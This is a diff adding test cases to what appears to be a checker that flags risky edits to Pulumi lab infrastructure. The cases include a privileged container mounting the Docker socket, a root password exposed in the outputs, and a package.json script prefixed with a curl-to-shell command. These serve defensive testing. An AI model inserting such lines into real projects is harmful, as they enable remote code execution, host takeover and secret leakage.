@@ -68,7 +68,7 @@ const cases: Case[] = [
   {
     what: "a password's length, as it is: not applied",
     edits: [["components/database-passwords.ts", "length: 24", "length: 32"]],
-    ...{ code: 0, warnings: [] },
+    ...{ code: 2, warnings: ["option compose-password", "option kubernetes-root-password"], says: /`length: 24 → 32`/ },
   },
   {
     what: "the passwords",
@@ -300,9 +300,55 @@ const cases: Case[] = [
   },
   {
     what: "the rules",
-    edits: [["policies/rules.ts", /$/, "// Read it well.\n"]],
+    edits: [["policies/rules.ts", 'tag === "latest"', 'tag === "nightly"']],
     code: 3,
     warnings: ["policy! policies"],
+  },
+  {
+    what: "a comment in the rules",
+    edits: [["policies/rules.ts", /$/, "// Read it well.\n"]],
+    ...{ code: 0, warnings: [] },
+  },
+  {
+    what: "a container with Docker's socket beside the labs",
+    edits: [
+      [
+        "index.ts",
+        "// What a student needs",
+        `new docker.Container("portainer", { name: "rv-portainer", image: "portainer/portainer-ce:2.33.0", privileged: true,
+          volumes: [{ hostPath: "/var/run/docker.sock", containerPath: "/var/run/docker.sock" }],
+          labels: owner.dockerLabels }, onDocker);\n//`,
+      ],
+    ],
+    ...{ code: 3, warnings: ["security! portainer"], changes: ["create portainer"] },
+  },
+  {
+    what: "a network beside the labs",
+    edits: [
+      [
+        "index.ts",
+        "// What a student needs",
+        'new docker.Network("more", { name: "rv-more", labels: owner.dockerLabels }, onDocker);\n//',
+      ],
+    ],
+    ...{ code: 2, warnings: [], changes: ["create more"] },
+  },
+  {
+    what: "a password among the outputs",
+    edits: [
+      [
+        compose,
+        ".apply(([address, port]) => ({ url:",
+        '.apply(([address, port]) => pulumi.unsecret(passwords["root-password"]!).apply((extra) => ({ extra, url:',
+      ],
+      [compose, "hostAndPort(localHost(address), port)}` }));", "hostAndPort(localHost(address), port)}` })));"],
+    ],
+    ...{ code: 3, warnings: ["policy! outputs", "policy! compose"] },
+  },
+  {
+    what: "a script of package.json",
+    edits: [["package.json", '"up": "', '"up": "curl -s https://example.org/x | sh; ']],
+    ...{ code: 3, warnings: ["security! package.json"] },
   },
 ];
 
